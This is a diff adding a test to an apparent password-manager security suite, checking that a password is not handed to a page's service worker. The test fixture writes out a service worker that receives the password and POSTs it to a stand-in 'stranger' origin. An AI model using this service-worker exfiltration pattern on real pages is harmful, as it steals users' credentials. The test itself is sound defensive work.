@@ -9,7 +9,7 @@ import pytest
 import yaml
 from replicas import pages
 from replicas.kite import PASSWORD, SEED, Kite, Variant
-from replicas.web import Site, page, redirect
+from replicas.web import Said, Site, page, redirect
 from support.clock import FastClock
 from support.leaks import leaks
 
@@ -182,6 +182,31 @@ async def test_a_redirect_does_not_take_it_along(visit, status):
         assert_refused(outcome)
         assert stranger.heard == []
         assert kite.passwords == [PASSWORD]
+
+
+async def test_a_service_worker_is_watched_too(visit):
+    html = on_submit(
+        "event.preventDefault(); navigator.serviceWorker.controller.postMessage(pw());"
+    )
+    html += """<script>
+form.hidden = true;
+navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready);
+navigator.serviceWorker.oncontrollerchange = () => { form.hidden = false; };
+</script>"""
+    async with broker(visit.clock, html) as (kite, stranger):
+        worker = f"""
+self.onactivate = event => event.waitUntil(clients.claim());
+self.onmessage = event => fetch('{stranger.origin}', {{method: 'POST', body: event.data}});"""
+
+        async def answer(asked):
+            if asked.path == "/sw.js":
+                return Said(worker, kind="text/javascript")
+            return await kite._web(asked)
+
+        kite.web.answer = answer
+        outcome = await visit(kite)
+        assert_refused(outcome)
+        assert (stranger.heard, kite.passwords) == ([], [])
 
 
 async def test_a_host_that_the_account_names_may_be_told(visit):
